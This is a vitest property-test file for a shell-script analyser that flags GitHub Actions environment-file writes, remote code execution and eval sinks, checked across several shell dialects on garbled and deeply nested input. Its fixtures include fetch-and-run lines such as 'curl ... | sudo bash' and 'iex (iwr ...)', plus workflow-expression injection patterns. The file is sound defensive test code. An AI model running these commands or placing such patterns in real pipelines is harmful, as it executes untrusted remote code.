/** Properties every result must have, on realistic and on garbled input, for every dialect. */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShell, initShellParser, type ShellDialect, type ShellFacts } from './shell-facts.js';

beforeAll(async () => {
  await initShellParser();
});

const FRAGMENTS = [
  'echo "X=$Y" >> "$GITHUB_ENV"',
  'curl -fsSL https://a.example/i | sudo bash',
  'cat <<EOF >> $GITHUB_OUTPUT\nk=v\nEOF',
  '{ echo a=1; } >> $GITHUB_OUTPUT',
  'eval "$(curl -s https://b.example)"',
  '"A=$env:B" >> $env:GITHUB_ENV',
  'iex (iwr https://c.example)',
  'echo C=%D%>> %GITHUB_ENV%',
  '(echo E=1) >> %GITHUB_ENV%',
  'echo "${{ github.event.issue.title }}"',
  'bash -c "${{ inputs.x }}"',
  "Add-Content -Path $env:GITHUB_PATH -Value 'C:\\x'",
  'for i in 1 2; do echo "$i"; done',
  '$[[ inputs.y ]] --flag',
  "echo 'unterminated",
  'if [ x ]; then',
  ') } ] fi done',
  '@"\nhere\n',
  '"😀 $env:Z é"',
  '`\n^\n',
];

function scripts(): string[] {
  let x = 42;
  const rnd = () => {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    return x / 0x7fffffff;
  };
  const noise = '"\'`$(){}[]<>|&;\\%!#@\n ';
  const out: string[] = [...FRAGMENTS];
  for (let i = 0; i < 150; i++) {
    const parts: string[] = [];
    const n = 1 + Math.floor(rnd() * 6);
    for (let j = 0; j < n; j++) {
      const f = FRAGMENTS[Math.floor(rnd() * FRAGMENTS.length)] as string;
      // Randomly drop or insert characters to produce broken syntax.
      const cut = Math.floor(rnd() * f.length);
      parts.push(rnd() < 0.3 ? f.slice(0, cut) + noise[Math.floor(rnd() * noise.length)] + f.slice(cut) : f);
    }
    out.push(parts.join(rnd() < 0.5 ? '\n' : '; '));
  }
  return out;
}

function check(s: string, f: ShellFacts): void {
  const inBounds = (a: { start: number; end: number }) => {
    expect(a.start).toBeGreaterThanOrEqual(0);
    expect(a.end).toBeGreaterThanOrEqual(a.start);
    expect(a.end).toBeLessThanOrEqual(s.length);
  };
  for (const w of f.envFileWrites) {
    inBounds(w);
    for (const x of w.written) {
      inBounds(x);
      expect(x.text).toBe(s.slice(x.start, x.end));
      expect(x.start).toBeGreaterThanOrEqual(w.start);
      expect(x.end).toBeLessThanOrEqual(w.end);
    }
  }
  for (const r of f.remoteExecutions) {
    inBounds(r);
    expect(r.text).toBe(s.slice(r.start, r.end));
  }
  for (const e of f.evalSinks) {
    inBounds(e);
    inBounds({ start: e.argStart, end: e.argEnd });
  }
  for (const x of f.expansions) {
    inBounds(x);
    expect(s.slice(x.start, x.end)).toContain(x.name);
  }
  for (const c of f.commands) inBounds(c);
  const sorted = (xs: { start: number }[]) => xs.every((v, i) => i === 0 || (xs[i - 1] as { start: number }).start <= v.start);
  expect(sorted(f.envFileWrites) && sorted(f.remoteExecutions) && sorted(f.evalSinks) && sorted(f.expansions) && sorted(f.commands)).toBe(
    true,
  );
}

describe('fact invariants', () => {
  const all = scripts();
  for (const dialect of ['bash', 'sh', 'pwsh', 'powershell', 'cmd'] as ShellDialect[]) {
    it(`${dialect}: never throws; spans in bounds, texts are slices, lists ordered`, () => {
      for (const s of all) check(s, analyzeShell(s, dialect));
    });
  }
});

describe('pathological input', () => {
  const deep = [
    '$('.repeat(3000),
    `echo ${'$('.repeat(400)}curl https://a.example${')'.repeat(400)}`,
    '('.repeat(3000),
    '{ '.repeat(2000),
    `${'a && '.repeat(3000)}echo x >> $GITHUB_ENV`,
    `${'a | '.repeat(2000)}bash`,
    '"'.repeat(5001),
    `${'@('.repeat(2000)}`,
    `eval ${'"$X" '.repeat(2000)}`,
  ];
  for (const dialect of ['bash', 'pwsh', 'cmd'] as ShellDialect[]) {
    it(`${dialect}: deep nesting and long chains do not throw`, () => {
      for (const s of deep) check(s, analyzeShell(s, dialect));
    });
  }
});
